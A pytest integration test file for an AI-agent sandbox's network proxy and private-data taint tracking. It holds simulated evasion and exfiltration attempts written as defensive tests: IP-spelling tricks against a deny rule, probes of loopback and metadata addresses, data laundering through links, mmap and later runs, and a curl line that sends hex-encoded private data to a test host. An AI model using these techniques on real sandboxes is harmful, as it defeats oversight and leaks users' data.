"""network = "proxy" end to end (issue 12): real agents in namespace
sandboxes, whose own commands (curl, git) reach servers only through the
daemon's proxy.

The servers: a web server in a network namespace the test makes
(`ip netns` + a veth pair, 10.77.0.2, "outside"), named in the bed's
/etc/hosts as allowed.test, internal.test, denied.test; and one on the bed's
loopback (the host's own services, which the agent must never reach). The
bed's config sets [taint] allow_private_addresses = true so the proxy may
reach 10.77.0.2 (a private address); loopback, link-local and metadata
addresses stay refused whatever that flag says, which loop.test (127.0.0.1)
and meta.test (169.254.169.254) show."""

from __future__ import annotations

import json
import re
import subprocess
import time
from collections.abc import Callable, Iterator

import pytest
from loop_agent import lay_out, start_detached
from test_gate_bed import Agent, lev
from testbed import Testbed

pytestmark = pytest.mark.testbed

LOOPBACK_PORT = 18441
OUTSIDE = "10.77.0.2"

BLUEPRINT = """
[agent]
name = "proxytest"
description = "runs the test's commands"
command = ["sh", "loop.sh"]

[read_paths]
allow = ["~/shared"]
"""

CONFIG = """
[sandbox]
kind = "namespace"
network = "proxy"

[agent_read_paths.proxytest]
allow = ["~/shared"]

[taint]
enabled = true
on_exceed = "{on_exceed}"
budget = 4
approval_timeout = 8
allow_private_addresses = true
# The proxy gates the shell fence's network by taint too: the shell tool
# may run while the agent holds Private data (what it writes is watched).
clearance = {{ shell = "private" }}

[proxy]
deny_domains = ["denied.test", "10.77.0.3"]
ports = [22, 80, 443]

[proxy.clearance]
"allowed.test" = "private"
"internal.test" = "internal"
"""

HOSTS = f"""127.0.0.1 localhost
{OUTSIDE} allowed.test internal.test denied.test
127.0.0.1 loop.test
169.254.169.254 meta.test
"""


TLS_SERVER = f"""
import http.server, ssl
ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
ctx.load_cert_chain("/srv/tls.pem", "/srv/tls.key")
srv = http.server.HTTPServer(("{OUTSIDE}", 443), http.server.SimpleHTTPRequestHandler)
srv.socket = ctx.wrap_socket(srv.socket, server_side=True)
import os
os.chdir("/srv/www")
srv.serve_forever()
"""


def curl(url: str, *extra: str) -> str:
    return f"curl -fsS --max-time 10 {' '.join(extra)} {url}"


@pytest.fixture(scope="module")
def bed(testbed: Testbed) -> Iterator[Testbed]:
    bed = testbed
    h = bed.users["alice"].home
    lay_out(bed, "pw", "pbp", BLUEPRINT,
            {"shared/doc.txt": "granted text\n", "pw/small.txt": "small\n"})
    bed.write_file("/etc/hosts", HOSTS)
    bed.run(f"""
        set -e
        ip netns del lvout 2>/dev/null || true
        ip link del lvh 2>/dev/null || true
        ip netns add lvout
        ip link add lvh type veth peer name lvs netns lvout
        ip addr add 10.77.0.1/24 dev lvh
        ip link set lvh up
        ip netns exec lvout ip addr add {OUTSIDE}/24 dev lvs
        ip netns exec lvout ip link set lvs up
        ip netns exec lvout ip link set lo up
        rm -rf /srv/www && mkdir -p /srv/www /srv/loop
        printf 'hello from outside\\n' > /srv/www/hello.txt
        printf 'host loopback secret\\n' > /srv/loop/index.html
        git init -q --bare /srv/www/repo.git
        rm -rf /tmp/src && git init -q /tmp/src && cd /tmp/src && printf 'x\\n' > f
        git add f && git -c user.name=t -c user.email=t@t commit -qm one
        git push -q /srv/www/repo.git HEAD:master
        git -C /srv/www/repo.git update-server-info
        cd /srv && openssl req -x509 -newkey rsa:2048 -nodes -days 2 -subj /CN=testca \
            -keyout ca.key -out ca.pem 2>/dev/null
        openssl req -newkey rsa:2048 -nodes -subj /CN=allowed.test -keyout tls.key \
            -out tls.csr 2>/dev/null
        printf 'subjectAltName=DNS:allowed.test,DNS:internal.test\n' > san.ext
        openssl x509 -req -in tls.csr -CA ca.pem -CAkey ca.key -CAcreateserial -days 2 \
            -extfile san.ext -out tls.pem 2>/dev/null
        install -m 644 ca.pem {h}/pw/ca.pem
    """)
    bed.write_file("/srv/tls.py", TLS_SERVER)
    outside = subprocess.Popen(bed.command(
        ["ip", "netns", "exec", "lvout", "python3", "-m", "http.server", "80", "--bind",
         OUTSIDE, "--directory", "/srv/www"]))
    tls = subprocess.Popen(bed.command(["ip", "netns", "exec", "lvout", "python3",
                                        "/srv/tls.py"]))
    loopback = subprocess.Popen(bed.command(
        ["python3", "-m", "http.server", str(LOOPBACK_PORT), "--bind", "127.0.0.1",
         "--directory", "/srv/loop"]))
    configure(bed, "deny")
    bed.run(["sh", "-c", f"for i in $(seq 50); do curl -fs http://{OUTSIDE}/hello.txt && "
             f"curl -fs http://127.0.0.1:{LOOPBACK_PORT}/ && exit 0; sleep 0.1; done; exit 1"])
    yield bed
    for proc in (outside, tls, loopback):
        proc.kill()
        proc.wait()
    bed.run(["ip", "netns", "del", "lvout"], check=False)


def configure(bed: Testbed, on_exceed: str) -> None:
    bed.write_file("/etc/leviath/config.toml", CONFIG.format(on_exceed=on_exceed))
    bed.run(["systemctl", "restart", "leviathd"])


def start(bed: Testbed) -> Agent:
    return Agent(bed, "alice", start_detached(bed, "pbp", "pw"), f"{bed.users['alice'].home}/pw")


@pytest.fixture(scope="module")
def agent(bed: Testbed) -> Iterator[Agent]:
    a = start(bed)
    yield a
    lev(bed, "alice", "stop", a.id, check=False)


def records(bed: Testbed, agent_id: str,
            until: Callable[[list[dict[str, str]]], bool] | None = None) -> list[dict[str, str]]:
    """The agent's network records; with `until`, once it holds of them (30 s
    at most: journald may not have the last ones yet on a loaded machine)."""
    deadline = time.monotonic() + 30
    while True:
        out = bed.run(["journalctl", "--no-pager", "-o", "json", f"LEVIATH_AGENT={agent_id}",
                       "LEVIATH_TOOL=network"]).stdout
        rows = [json.loads(line) for line in out.splitlines() if line.strip()]
        if until is None or until(rows) or time.monotonic() > deadline:
            return rows
        time.sleep(0.3)


def test_lev_ps_shows_the_network_mode(bed: Testbed, agent: Agent) -> None:
    out = lev(bed, "alice", "ps").stdout
    assert re.search(rf"{agent.id}.*namespace \(net:proxy\)", out), out


def test_only_lo_exists_and_the_proxy_is_in_the_environment(agent: Agent) -> None:
    rc, out, err = agent.call("tail -n +3 /proc/net/dev | cut -d: -f1 | tr -d ' '; "
                              "echo $HTTP_PROXY $https_proxy $ALL_PROXY; git config http.proxy")
    assert rc == 0, err
    assert out.split() == ["lo", "http://127.0.0.1:3128", "http://127.0.0.1:3128",
                           "socks5h://127.0.0.1:3128", "http://127.0.0.1:3128"]


def test_the_agents_user_outside_the_agent_cannot_use_its_proxy(bed: Testbed, agent: Agent) -> None:
    """The socket is alice's (she may connect), but the daemon serves only
    processes of the agent's own scope: her host shell is not the agent, and
    its taint and policy are not hers to borrow or to spend."""
    probe = (f"import socket; s = socket.socket(socket.AF_UNIX); "
             f"s.connect('/run/leviath/agents/{agent.id}/proxy.sock'); "
             "s.sendall(b'CONNECT allowed.test:80 HTTP/1.1\\r\\n\\r\\n'); "
             "print(repr(s.recv(100)))")
    r = bed.run(["python3", "-c", probe], user="alice", check=False)
    assert "200" not in r.stdout and r.stdout.strip() in ("b''", ""), r.stdout + r.stderr


def test_an_allowed_domain_works_through_the_proxy(agent: Agent) -> None:
    rc, out, err = agent.call(curl("http://allowed.test/hello.txt"))
    assert rc == 0 and out == "hello from outside\n", err


def test_https_works_through_connect(agent: Agent) -> None:
    rc, out, err = agent.call(curl("https://allowed.test/hello.txt", "--cacert ca.pem"))
    assert rc == 0 and out == "hello from outside\n", err


def test_the_shell_tools_fence_has_its_own_way_out(agent: Agent) -> None:
    rc, out, err = agent.call("lev tool shell 'curl -fsS http://allowed.test/hello.txt'")
    assert rc == 0 and "hello from outside" in out, err


def test_connect_and_socks5_work(agent: Agent) -> None:
    rc, out, err = agent.call(curl("http://allowed.test/hello.txt", "-p"))
    assert rc == 0 and out == "hello from outside\n", err
    rc, out, err = agent.call(curl("http://allowed.test/hello.txt",
                                   "--proxy socks5h://127.0.0.1:3128"))
    assert rc == 0 and out == "hello from outside\n", err


def test_lev_connect_is_a_tcp_connection_through_the_proxy(agent: Agent) -> None:
    """ssh's ProxyCommand for git over ssh (there is no sshd in the bed: the
    same path is shown with HTTP over the raw connection)."""
    rc, out, err = agent.call("git config core.sshCommand; printf 'GET /hello.txt HTTP/1.0\\r\\n"
                              "Host: allowed.test\\r\\n\\r\\n' | lev connect allowed.test 80")
    assert rc == 0, err
    assert out.startswith("ssh -o ProxyCommand='lev connect %h %p'\n") and out.endswith(
        "hello from outside\n"), out
    rc, out, err = agent.call("printf x | lev connect denied.test 80")
    assert rc != 0 and "refused by the proxy" in err and "deny_domains" in err, err


@pytest.mark.parametrize("spelling", [
    "10.77.0.3", "172818435", "10.77.3", "0x0a4d0003", "012.0115.0.03", "10.77.0.3.",
    "0x0a.77.0.3"])
def test_one_deny_domains_address_holds_for_every_spelling(agent: Agent, spelling: str) -> None:
    """Issue 31 §2: the proxy compares the one canonical form (hosts.py), so
    deny_domains' "10.77.0.3" is the rule that refuses each spelling the
    resolver reads as it."""
    rc, _out, err = agent.call(f"printf x | lev connect '{spelling}' 80")
    assert rc != 0 and "refused by the proxy" in err and "deny_domains" in err, (spelling, err)


@pytest.mark.parametrize("spelling", [
    "[::ffff:10.77.0.3]", "::ffff:10.77.0.3", "\uff11\uff10.77.0.3", "10\u300277\u30020\u30023"])
def test_spellings_the_proxys_request_parser_refuses_never_connect(
    agent: Agent, spelling: str,
) -> None:
    """An IPv6 form without brackets in CONNECT's host:port and a host that is
    not ASCII (clients send IDNA names as xn--) are refused before any rule,
    as no host at all: they never reach 10.77.0.3 either. A non-ASCII host
    never gets as far as the host check: the HTTP layer (h11) refuses the
    request line's bytes themselves (issue 44)."""
    rc, _out, err = agent.call(f"printf x | lev connect '{spelling}' 80")
    assert rc != 0 and "refused by the proxy" in err, (spelling, err)
    refusals = ("deny_domains", "not a host name", "not an HTTP/1.x request line")
    assert any(r in err for r in refusals), (spelling, err)


def test_git_clone_over_http_works(agent: Agent) -> None:
    rc, _out, err = agent.call("rm -rf c && git clone -q http://allowed.test/repo.git c "
                               "&& cat c/f")
    assert rc == 0 and _out == "x\n", err


def test_a_denied_domain_and_a_port_not_allowed_are_refused(agent: Agent) -> None:
    rc, out, err = agent.call(curl("http://denied.test/hello.txt"))
    assert rc != 0 and "hello" not in out, err
    rc, out, err = agent.call(curl("http://allowed.test:8080/hello.txt"))
    assert rc != 0 and "hello" not in out, err


def test_direct_connections_fail(agent: Agent) -> None:
    """The attacker's side: without the proxy nothing leaves, and the host's
    loopback services are out of reach whatever way is tried."""
    for url in (f"http://{OUTSIDE}/hello.txt", f"http://127.0.0.1:{LOOPBACK_PORT}/"):
        rc, out, _err = agent.call(curl(url, "--noproxy '*'"))
        assert rc != 0 and "hello" not in out and "secret" not in out
    rc, out, _err = agent.call(curl(f"http://127.0.0.1:{LOOPBACK_PORT}/"))
    assert rc != 0 and "secret" not in out


ABSTRACT = """
import socket, time
s = socket.socket(socket.AF_UNIX)
s.bind("\\0leviath-proxy-test")
s.listen()
time.sleep(3600)
"""


def test_a_host_abstract_unix_socket_is_out_of_reach(bed: Testbed, agent: Agent) -> None:
    bed.write_file("/root/abstract.py", ABSTRACT)
    listener = subprocess.Popen(bed.command(["python3", "/root/abstract.py"]))
    try:
        probe = ("python3 -c 'import socket; s = socket.socket(socket.AF_UNIX); "
                 "s.connect(\"\\0leviath-proxy-test\"); print(\"reached\")'")
        bed.run(["sh", "-c", f"for i in $(seq 50); do {probe} && exit 0; sleep 0.1; done; "
                 "exit 1"])  # the host reaches it
        rc, out, err = agent.call(probe)
        assert rc != 0 and "reached" not in out and "refused" in err.lower(), err
    finally:
        listener.kill()
        listener.wait()


@pytest.mark.parametrize("name", ["loop.test", "meta.test", "127.0.0.1", "169.254.169.254"])
def test_loopback_and_metadata_addresses_are_refused_after_resolution(
    agent: Agent, name: str
) -> None:
    port = f":{LOOPBACK_PORT}" if name.startswith(("loop", "127")) else ""
    rc, out, _err = agent.call(curl(f"http://{name}{port}/", "-p"))
    assert rc != 0 and "secret" not in out


def test_every_connection_is_an_audit_record(bed: Testbed, agent: Agent) -> None:
    assert agent.call(curl("http://allowed.test/hello.txt"))[0] == 0
    assert agent.call(curl("http://denied.test/hello.txt"))[0] != 0
    rows = records(bed, agent.id, lambda rs: {
        ("allowed.test:80", "allow"), ("denied.test:80", "deny")} <= {
        (r["LEVIATH_TARGET"], r["LEVIATH_OUTCOME"]) for r in rs})
    allowed = [r for r in rows if r["LEVIATH_TARGET"] == "allowed.test:80"
               and r["LEVIATH_OUTCOME"] == "allow"]
    assert allowed and re.search(r"received [1-9]\d* bytes", allowed[-1]["LEVIATH_DETAIL"])
    denied = [r for r in rows if r["LEVIATH_TARGET"] == "denied.test:80"]
    assert denied and denied[-1]["LEVIATH_OUTCOME"] == "deny"
    assert denied[-1]["LEVIATH_RULE"] == "deny-domain"
    shown = lev(bed, "alice", "audit", agent.id).stdout
    assert re.search(r"network\s+denied\.test:80\s+deny", shown), shown


def test_private_data_cannot_leave_to_an_internal_domain_until_evicted(
    bed: Testbed, agent: Agent
) -> None:
    home = bed.users["alice"].home
    assert agent.call(curl("http://internal.test/hello.txt"))[0] == 0
    rc, _out, err = agent.call(f"lev tool read_file {home}/shared/doc.txt")
    assert rc == 0, err
    assert agent.taint() == "private"
    rc, out, _err = agent.call(curl("http://internal.test/hello.txt"))
    assert rc != 0 and "hello" not in out
    # allowed.test is cleared for private data.
    rc, out, err = agent.call(curl("http://allowed.test/hello.txt"))
    assert rc == 0 and "hello" in out, err
    rc, out, err = agent.call("lev tool --ledger")
    ids = [str(e["id"]) for e in json.loads(out)["entries"] if e["label"] == "private"]
    assert ids, out
    assert agent.call(f"lev tool --evict {' '.join(ids)}")[0] == 0
    rc, out, err = agent.call(curl("http://internal.test/hello.txt"))
    assert rc == 0 and "hello" in out, err
    def internal(rs: list[dict[str, str]]) -> list[dict[str, str]]:
        return [r for r in rs if r["LEVIATH_TARGET"] == "internal.test:80"]

    rows = internal(records(bed, agent.id, lambda rs: [
        r["LEVIATH_OUTCOME"] for r in internal(rs)][-3:] == ["allow", "deny", "allow"]))
    assert [r["LEVIATH_OUTCOME"] for r in rows][-3:] == ["allow", "deny", "allow"]
    assert rows[-2]["LEVIATH_RULE"] == "taint-exceeds-clearance"


def test_private_data_laundered_through_a_file_the_agent_wrote_itself_stays_private(
    bed: Testbed, agent: Agent
) -> None:
    home = bed.users["alice"].home
    rc, _out, err = agent.call(f"lev tool read_file {home}/shared/doc.txt > laundered.json")
    assert rc == 0, err
    rc, out, err = agent.call("lev tool --ledger")
    ids = [str(e["id"]) for e in json.loads(out)["entries"] if e["label"] == "private"]
    assert agent.call(f"lev tool --evict {' '.join(ids)}")[0] == 0
    assert agent.call("lev tool read_file laundered.json")[0] == 0
    try:
        assert agent.taint() == "private"
        rc, out, _err = agent.call(curl("http://internal.test/hello.txt"))
        assert rc != 0 and "hello" not in out
    finally:
        rc, out, err = agent.call("lev tool --ledger")
        ids = [str(e["id"]) for e in json.loads(out)["entries"] if e["label"] == "private"]
        if ids:
            agent.call(f"lev tool --evict {' '.join(ids)}")


def private_ids(agent: Agent) -> list[str]:
    rc, out, err = agent.call("lev tool --ledger")
    assert rc == 0, err
    return [str(e["id"]) for e in json.loads(out)["entries"] if e["label"] == "private"]


def evict_private(agent: Agent) -> None:
    ids = private_ids(agent)
    if ids:
        rc, _out, err = agent.call(f"lev tool --evict {' '.join(ids)}")
        assert rc == 0, err
    assert agent.taint() != "private"


def read_back(agent: Agent, path: str) -> str:
    """The taint after the broker reads `path` back (then evicted again)."""
    rc, _out, err = agent.call(f"lev tool read_file {path}")
    assert rc == 0, err
    taint = agent.taint()
    evict_private(agent)
    return taint


def test_laundering_through_a_subfolder_a_rename_and_a_hard_link_stays_private(
    bed: Testbed, agent: Agent
) -> None:
    """The attacker's side: the agent's own shell writes the granted data
    deep in a subfolder and links it elsewhere, evicts, then renames it and
    drops the link: the label is the inode's, whatever its name."""
    home = bed.users["alice"].home
    evict_private(agent)
    rc, _out, err = agent.call(
        f"rm -rf deep moved.json linked.json && mkdir -p deep/er && "
        f"lev tool read_file {home}/shared/doc.txt > deep/er/a.json && "
        "ln deep/er/a.json linked.json")
    assert rc == 0, err
    evict_private(agent)
    assert agent.call("mv deep/er/a.json moved.json")[0] == 0
    # While it has two names the broker reads it under neither (issue 48 §4).
    rc, out, err = agent.call("lev tool read_file linked.json")
    assert rc != 0 and "several names" in err, (out, err)
    assert agent.call("rm linked.json")[0] == 0
    assert read_back(agent, "moved.json") == "private"


MAPPED = """
import json, mmap, os, subprocess
def lev(*a):
    return subprocess.run(["lev", "tool", *a], capture_output=True, check=True).stdout
fd = os.open("mapped.json", os.O_RDWR | os.O_CREAT | os.O_TRUNC, 0o644)
os.ftruncate(fd, 4096)
m = mmap.mmap(fd, 4096, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE)
os.close(fd)  # only the mapping holds the file now: no write(), no close yet
m[:] = b" " * 4096
data = lev("read_file", "HOME/shared/doc.txt")
m[:len(data)] = data
ids = [str(e["id"]) for e in json.loads(lev("--ledger"))["entries"] if e["label"] == "private"]
lev("--evict", *ids)
m.flush()
m.close()  # the file's close comes now, after the eviction
"""


def test_a_write_through_a_shared_mapping_held_across_the_eviction_stays_private(
    bed: Testbed, agent: Agent
) -> None:
    home = bed.users["alice"].home
    evict_private(agent)
    rc, _out, err = agent.call(f"python3 - <<'EOF'\n{MAPPED.replace('HOME', home)}EOF\n")
    assert rc == 0, err
    assert agent.taint() != "private"
    assert read_back(agent, "mapped.json") == "private"


def test_a_file_written_before_the_eviction_keeps_the_label_one_written_after_does_not(
    bed: Testbed, agent: Agent
) -> None:
    """Eviction is the agent's word that the data left it (a documented
    limit): what it writes afterwards is not labelled; what it wrote before
    is, whenever the daemon reads the event."""
    home = bed.users["alice"].home
    evict_private(agent)
    rc, _out, err = agent.call(
        f"lev tool read_file {home}/shared/doc.txt > before.json && "
        "lev tool --ledger > ledger.json && "
        "ids=$(python3 -c 'import json; print(\" \".join(str(e[\"id\"]) for e in "
        "json.load(open(\"ledger.json\"))[\"entries\"] if e[\"label\"] == \"private\"))') "
        "&& lev tool --evict $ids && echo late > after.json")
    assert rc == 0, err
    assert agent.taint() != "private"
    assert read_back(agent, "before.json") == "private"
    assert read_back(agent, "after.json") == "internal"


def test_a_file_written_before_the_budget_pushed_the_private_entry_out_stays_private(
    bed: Testbed, agent: Agent
) -> None:
    """The other way the taint drops: no eviction, only enough later reads
    (the bed's budget is 4) to push the Private entry out of the ledger."""
    home = bed.users["alice"].home
    evict_private(agent)
    rc, _out, err = agent.call(
        f"lev tool read_file {home}/shared/doc.txt > pushed.json && "
        "for i in 1 2 3 4; do lev tool read_file small.txt >/dev/null || exit 1; done")
    assert rc == 0, err
    assert agent.taint() != "private"
    assert read_back(agent, "pushed.json") == "private"


def test_private_data_first_taken_in_a_shell_fence_still_labels_the_agents_own_writes(
    bed: Testbed, agent: Agent
) -> None:
    """The first Private read comes from a process in the `shell` tool's own
    fence (another mount namespace of the scope): the agent's own fence is
    watched all the same."""
    home = bed.users["alice"].home
    evict_private(agent)
    rc, out, err = agent.call(
        f"lev tool shell 'lev tool read_file {home}/shared/doc.txt >/dev/null; echo done'")
    assert rc == 0 and "done" in out, out + err
    assert agent.taint() == "private"
    rc, _out, err = agent.call("echo 'granted text' > fromshell.txt")
    assert rc == 0, err
    evict_private(agent)
    assert read_back(agent, "fromshell.txt") == "private"


def test_the_agents_own_process_opening_a_labelled_file_after_the_eviction_is_private_again(
    bed: Testbed, agent: Agent
) -> None:
    """The attacker's side of what the broker does not see: after the
    eviction the agent's own process reads the file it labelled and sends
    it at once (the proxy handles the open before it decides), or copies it
    to a new name."""
    home = bed.users["alice"].home
    evict_private(agent)
    rc, _out, err = agent.call(f"lev tool read_file {home}/shared/doc.txt > back.json")
    assert rc == 0, err
    evict_private(agent)
    rc, out, _err = agent.call("cat back.json >/dev/null && "
                               + curl("http://internal.test/hello.txt"))
    assert rc != 0 and "hello" not in out
    assert agent.taint() == "private"
    evict_private(agent)
    assert agent.call("cp back.json copied.json")[0] == 0
    evict_private(agent)
    assert read_back(agent, "copied.json") == "private"


def test_an_adopted_agent_keeps_its_proxy_after_a_daemon_restart(
    bed: Testbed, agent: Agent
) -> None:
    bed.run(["systemctl", "restart", "leviathd"])
    rc, out, err = agent.call(curl("http://allowed.test/hello.txt"))
    assert rc == 0 and "hello" in out, err
    rc, out, _err = agent.call(curl("http://denied.test/hello.txt"))
    assert rc != 0 and "hello" not in out


def test_ask_holds_the_connection_until_approved_once(bed: Testbed) -> None:
    from test_gate_bed import pending

    configure(bed, "ask")
    a = start(bed)
    home = bed.users["alice"].home
    try:
        assert a.call(f"lev tool read_file {home}/shared/doc.txt")[0] == 0
        n = a.submit(curl("http://internal.test/hello.txt", "--max-time 20"))
        row = pending(bed, "alice", a.id)
        assert row["tool"] == "network" and row["target"] == "internal.test:80"
        time.sleep(0.3)
        assert not a.done(n)
        lev(bed, "alice", "approve", row["id"], "--once")
        rc, out, err = a.result(n)
        assert rc == 0 and "hello" in out, err
        # Once is once: the next connection asks again.
        n = a.submit(curl("http://internal.test/hello.txt", "--max-time 20"))
        row = pending(bed, "alice", a.id)
        lev(bed, "alice", "approve", row["id"], "--deny")
        rc, out, _err = a.result(n)
        assert rc != 0 and "hello" not in out
    finally:
        lev(bed, "alice", "stop", a.id, check=False)
        configure(bed, "deny")


def test_private_data_written_by_the_shell_tools_command_stays_private(
    bed: Testbed, agent: Agent
) -> None:
    """The attacker's side of the `shell` tool's own fence (another mount
    namespace, built for each command): the agent, holding Private data,
    has the shell tool copy a labelled file and write the data it was
    handed, evicts, and reads both back or sends them out."""
    home = bed.users["alice"].home
    evict_private(agent)
    rc, _out, err = agent.call(
        f"rm -f src.json viacp.json viaprintf.json && "
        f"lev tool read_file {home}/shared/doc.txt > src.json && "
        "lev tool shell 'cp src.json viacp.json && printf \"granted text\" > viaprintf.json'")
    assert rc == 0, err
    evict_private(agent)
    assert read_back(agent, "viacp.json") == "private"
    assert read_back(agent, "viaprintf.json") == "private"
    rc, out, _err = agent.call("cat viaprintf.json >/dev/null && "
                               + curl("http://internal.test/hello.txt"))
    assert rc != 0 and "hello" not in out
    evict_private(agent)


def test_a_file_labelled_in_an_earlier_run_cannot_be_sent_out_by_the_next_agent(
    bed: Testbed, agent: Agent
) -> None:
    """Laundering across runs: the first agent's own process writes the
    granted data into the workdir and the agent ends; a new agent on the same
    workdir reads the file with its own processes (which the broker does not
    see) and sends it out through the proxy, or copies it to a new name."""
    home = bed.users["alice"].home
    first = start(bed)
    try:
        rc, _out, err = first.call(
            f"rm -f carried.json carried2.json && "
            f"lev tool read_file {home}/shared/doc.txt > carried.json")
        assert rc == 0, err
    finally:
        lev(bed, "alice", "stop", first.id, check=False)
    second = start(bed)
    try:
        assert second.taint() != "private"
        rc, out, _err = second.call(
            "d=$(od -An -tx1 carried.json | tr -d ' \\n' | head -c 200) && "
            + curl('"http://internal.test/hello.txt?d=$d"'))
        assert rc != 0 and "hello" not in out
        evict_private(second)
        assert second.call("cp carried.json carried2.json")[0] == 0
        evict_private(second)
        assert read_back(second, "carried2.json") == "private"
    finally:
        lev(bed, "alice", "stop", second.id, check=False)
